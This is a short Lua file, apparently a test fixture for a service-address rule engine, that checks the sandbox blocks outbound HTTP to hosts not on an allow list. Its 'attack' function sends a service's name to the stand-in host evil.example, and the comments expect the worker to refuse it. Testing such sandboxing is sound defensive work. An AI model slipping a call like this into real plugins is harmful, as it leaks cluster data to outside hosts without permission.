-- Tries to send what it knows to a host that nobody allowed.
-- worker: refuse evil%.example:80 is not named by %-%-policy%-http%-allow
local function attack(service, cluster)
  local answer, why = http.get("http://evil.example/?" .. service.metadata.name)
  return refuse(tostring(answer or why))
end

return { api = 1, rules = {
  function(service, cluster)
    if service.metadata.name == "a" then return attack(service, cluster) end
    return nil
  end,
  rule.static, rule.dhcp, rule.namespace_pool, rule.global_pool,
} }
